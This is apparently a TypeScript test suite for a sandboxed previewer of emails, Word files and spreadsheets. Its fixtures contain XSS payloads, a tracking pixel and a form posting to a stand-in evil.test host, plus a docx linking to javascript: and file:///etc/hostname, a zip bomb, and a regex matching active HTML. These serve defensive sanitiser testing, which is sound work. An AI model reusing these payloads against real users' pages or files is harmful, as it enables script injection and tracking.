import { Readable } from 'node:stream'
import { strToU8, zipSync } from 'fflate'
import { afterAll, describe, expect, test } from 'vitest'
import { docxOf } from '../../../demo/document-contents.ts'
import { internetMessage } from '../../../demo/internet-message.ts'
import { outlookMessage } from '../../../testing/outlook-message.ts'
import { kindOf } from '../detect-kind.ts'
import { ReadingProcess } from '../reading/reading-process.ts'

const rendering = new ReadingProcess()
afterAll(() => rendering.close())

function render(content: Buffer, name: string) {
	const { kind, contentType } = kindOf(content, name)
	return rendering.render({ kind, contentType, name, bytes: content.length }, async () => Readable.from([content]))
}

async function pageOf(content: Buffer, name: string) {
	const { html, reason } = await render(content, name)
	if (html === null) throw new Error(reason)
	const [head = '', body = ''] = html.split('</head>')
	expect(head).toContain(`http-equiv="Content-Security-Policy" content="default-src 'none';`)
	return { body, reason }
}

const HEAD = {
	From: 'Ada <ada@osei.test>',
	To: 'firm@praxis.test',
	Subject: 'Offer & terms',
	'Message-ID': '<a@osei.test>',
}
const PIXEL = Buffer.from(
	'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
	'base64',
)
const htmlMail = (content: string) => internetMessage({ head: HEAD, body: { type: 'text/html', content } })

const zip = (parts: Record<string, string | Uint8Array>) =>
	Buffer.from(
		zipSync(
			Object.fromEntries(
				Object.entries(parts).map(([name, part]) => [name, typeof part === 'string' ? strToU8(part) : part]),
			),
		),
	)

/** Anything by which a page could run, load, send or lead somewhere. */
const ACTIVE =
	/<(?:script|iframe|object|embed|form|input|button|svg|math|link|meta|base|style|video|audio|source|a)\b|\son\w+=|(?:src|href|action|background|srcset|poster|data)="(?!data:image\/)|url\(|@import|javascript:|expression\(/i

const HOSTILE = `
<html><head><base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/m">
<link rel="stylesheet" href="https://evil.test/s.css"><link rel="dns-prefetch" href="//evil.test">
<style>@import url(https://evil.test/i.css); body { background: url(https://evil.test/b.png) }</style></head>
<body background="https://evil.test/bg.png" onload="steal()">
<script>steal()</script><noscript><img src="https://evil.test/n.png"></noscript>
<p style="background-image:url(https://evil.test/c.png);color:red;position:fixed">Kind regards</p>
<img src="https://evil.test/pixel.gif?to=ada" width="1" height="1"><img src="//evil.test/2.gif"><img src=x onerror="steal()">
<img srcset="https://evil.test/3.gif 2x"><picture><source srcset="https://evil.test/4.gif"></picture>
<svg onload="steal()"><image href="https://evil.test/5.png"/><script>steal()</script></svg><math><mtext><img src=y onerror=steal()></mtext></math>
<a href="javascript:steal()">Click</a><a href="https://evil.test/phish" ping="https://evil.test/ping" target="_top">Pay here</a>
<form action="https://evil.test/f"><input name="p"><button>Send</button></form>
<iframe src="https://evil.test/frame"></iframe><object data="https://evil.test/o"></object><embed src="https://evil.test/e">
<video poster="https://evil.test/v.png"><source src="https://evil.test/v.mp4"></video><audio src="https://evil.test/a.mp3"></audio>
<img src="data:image/svg+xml;base64,PHN2Zy8+"><table background="https://evil.test/t.png"><tr><td>Cell</td></tr></table>
</body></html>`

describe('a page of a message', () => {
	test('from hostile HTML nothing is left that runs, loads, sends or leads anywhere', async () => {
		const { body, reason } = await pageOf(htmlMail(HOSTILE), 'a.eml')
		expect(body).not.toMatch(ACTIVE)
		expect(body).not.toContain('steal()')
		expect(body).toContain('Kind regards')
		expect(body).toContain('<span class="link" title="https://evil.test/phish">Pay here</span>')
		expect(reason).toBe('5 remote or unsafe images are not loaded.')
	})

	test('nothing in a message looks like the head of the page', async () => {
		const forged = '<body><header class="head"><h1 class="head">From the court</h1></header></body>'
		const { body } = await pageOf(htmlMail(forged), 'a.eml')
		expect(body).toContain('From the court')
		expect(body.split('class="head"')).toHaveLength(2)
	})

	test('images of the message itself are shown, those that are documents are not', async () => {
		const image = (contentId: string, type: string, content: Buffer) => ({ type, content, contentId })
		const related = internetMessage(
			{
				head: {},
				body: { type: 'text/html', content: '<p>See <img src="cid:one"><img src="cid:two"></p>' },
				attachments: [
					image('one', 'image/png', PIXEL),
					image('two', 'image/svg+xml', Buffer.from('<svg onload="x()"/>')),
				],
			},
			'inner',
		)
		const source = related.toString().replace('multipart/mixed', 'multipart/related')
		const head = Object.entries(HEAD)
			.map(([name, value]) => `${name}: ${value}`)
			.join('\r\n')
		const { body, reason } = await pageOf(Buffer.from(`${head}\r\n${source}`), 'a.eml')
		expect(body).toContain(`<img src="data:image/png;base64,${PIXEL.toString('base64')}"`)
		expect(body).not.toContain('svg')
		expect(reason).toBe('1 remote or unsafe image is not loaded.')
	})

	test('with its head, as text', async () => {
		const text = internetMessage({
			head: { ...HEAD, Subject: '<script>alert(1)</script>' },
			body: { type: 'text/plain', content: 'a < b' },
		})
		const { body } = await pageOf(text, 'a.eml')
		expect(body).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
		expect(body).toContain('<dd>Ada &lt;ada@osei.test&gt;</dd>')
		expect(body).toContain('<pre>a &lt; b')
	})

	test('of Outlook', async () => {
		const content = outlookMessage({
			subject: 'Terms',
			body: 'Plain',
			html: '<p onclick="x()">Rich <img src="http://evil.test/p"></p>',
			messageId: '<m@osei.test>',
			senderName: 'Ada',
			senderAddress: 'ada@osei.test',
			recipient: { name: 'Firm', address: 'firm@praxis.test' },
			attachments: [],
		})
		const { body, reason } = await pageOf(content, 'a.msg')
		expect(body).toContain('<p>Rich ')
		expect(body).not.toMatch(ACTIVE)
		expect(reason).toBe('1 remote or unsafe image is not loaded.')
	})
})

describe('a page of a Word document', () => {
	test('its text with headings, lists and tables', async () => {
		const { body, reason } = await pageOf(docxOf('Hold', ['Keep <all>']), 'a.docx')
		expect(body).toContain('<p>Hold</p><p>Keep &lt;all&gt;</p>')
		expect(reason).toBe('')
	})

	test('nothing outside it is read or loaded, and no script comes out of it', async () => {
		const link = (id: string, type: string, target: string) =>
			`<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`
		const picture = (id: string) =>
			`<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="${id}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`
		const names =
			'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"'
		const content = zip({
			'[Content_Types].xml':
				'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
			'_rels/.rels':
				'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
			'word/_rels/document.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${link('h', 'hyperlink', 'javascript:steal()')}${link('i', 'image', 'https://evil.test/p.png')}${link('f', 'image', 'file:///etc/hostname')}${link('t', 'attachedTemplate', 'https://evil.test/t.dotm')}</Relationships>`,
			'word/document.xml': `<w:document ${names}><w:body><w:p><w:hyperlink r:id="h"><w:r><w:t>Click</w:t></w:r></w:hyperlink></w:p>${picture('i')}${picture('f')}<w:p><w:r><w:t>&lt;script&gt;steal()&lt;/script&gt;</w:t></w:r></w:p></w:body></w:document>`,
			'word/vbaProject.bin': 'x',
		})
		const { body, reason } = await pageOf(content, 'a.docx')
		expect(body).toContain('Click')
		expect(body).toContain('&lt;script&gt;steal()&lt;/script&gt;')
		expect(body).not.toMatch(/<script|<img|<a\b|src=/)
		expect(reason).toBe(
			'This file contains macros. They are not run. This file refers to content outside itself, which is not loaded.',
		)
	})

	test('of more parts than can be laid out, the text', async () => {
		const xml = `<w:document><w:body>${'<w:p><w:r><w:t>Rent</w:t></w:r></w:p>'.repeat(120_000)}</w:body></w:document>`
		const { body, reason } = await pageOf(zip({ 'word/document.xml': xml }), 'a.docx')
		expect(body).toContain('Rent\nRent')
		expect(reason).toBe('This document is too complex to show with its layout. Only its text is shown.')
	})

	test('a zip bomb is not expanded', async () => {
		const bomb = zip({ 'word/document.xml': new Uint8Array(110 * 1024 * 1024) })
		expect(await render(bomb, 'a.docx')).toEqual({
			html: null,
			reason: 'This file expands to more than 100 MB and was not read. Save it again without large parts.',
		})
	})
})

test('the day of a message as Americans write it, with its zone', async () => {
	const head = { ...HEAD, Date: 'Sat, 21 Nov 2026 09:00:00 -0500' }
	const { body } = await pageOf(internetMessage({ head, body: { type: 'text/plain', content: 'x' } }), 'a.eml')
	expect(body).toContain('<dd>Sat, Nov 21, 2026, 2:00 PM UTC</dd>')
})

test('of a message of 300,000 nested elements the text is shown, at once', async () => {
	const started = performance.now()
	const { body, reason } = await pageOf(htmlMail(`Dear Ada ${'<b>'.repeat(300_000)}Kind regards`), 'a.eml')
	expect(body).toContain('Kind regards')
	expect(reason).toBe('This message is nested too deeply to show with its layout. Only its text is shown.')
	expect(performance.now() - started).toBeLessThan(20_000)
	const list = await pageOf(htmlMail(`${'<p>One<ul><li>Two<li>Three</ul>'.repeat(5_000)}`), 'a.eml')
	expect(list.reason).toBe('')
})

describe('a page of a spreadsheet', () => {
	const book = (rows: number) =>
		zip({
			'xl/workbook.xml': '<workbook><sheets><sheet name="Fees &lt;b&gt;" sheetId="1" r:id="rId1"/></sheets></workbook>',
			'xl/_rels/workbook.xml.rels':
				'<Relationships><Relationship Id="rId1" Target="worksheets/sheet1.xml"/></Relationships>',
			'xl/worksheets/sheet1.xml': `<worksheet><sheetData>${Array.from({ length: rows }, (_, at) => `<row r="${at + 1}"><c r="A${at + 1}"><v>${at + 1}</v></c><c r="B${at + 1}" t="inlineStr"><is><t>&lt;img src=x onerror=steal()&gt;</t></is></c></row>`).join('')}</sheetData></worksheet>`,
		})

	test('its rows and columns by name, nothing of them as HTML', async () => {
		const { body, reason } = await pageOf(book(2), 'a.xlsx')
		expect(body).toContain('<h2>Fees &lt;b&gt;</h2>')
		expect(body).toContain('<th scope="col">B</th>')
		expect(body).toContain('<td>&lt;img src=x onerror=steal()&gt;</td>')
		expect(body).not.toContain('<img')
		expect(reason).toBe('')
	})

	test('of a large one the first rows, and says so', async () => {
		const { body, reason } = await pageOf(book(1_200), 'a.xlsx')
		expect(body).toContain('Only the first 500 of 1,200 rows are shown.')
		expect(body.match(/<tr>/g)).toHaveLength(501)
		expect(reason).toBe('Large sheets are shown in part. Download the document to see all of it.')
	})

	test('of values separated by commas', async () => {
		const { body } = await pageOf(Buffer.from('Name,Fee\n"Osei, Ada",12\n'), 'a.csv')
		expect(body).toContain('<td>Osei, Ada</td><td>12</td>')
	})
})

test('what has no preview says why', async () => {
	const compound = Buffer.concat([Buffer.from('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', 'latin1'), Buffer.alloc(2_000)])
	const reasonOf = async (content: Buffer, name: string) => {
		const { html, reason } = await render(content, name)
		expect(html).toBeNull()
		return reason
	}
	const old = 'Old Word, Excel and PowerPoint files (.doc, .xls, .ppt) cannot be shown here.'
	expect(await reasonOf(compound, 'a.doc')).toBe(old)
	expect(await reasonOf(compound, 'a.xls')).toBe(old)
	const cut = docxOf('Hold', ['x'.repeat(5_000)]).subarray(0, -40)
	expect(await reasonOf(cut, 'a.docx')).toBe('This file is damaged and could not be read.')
})
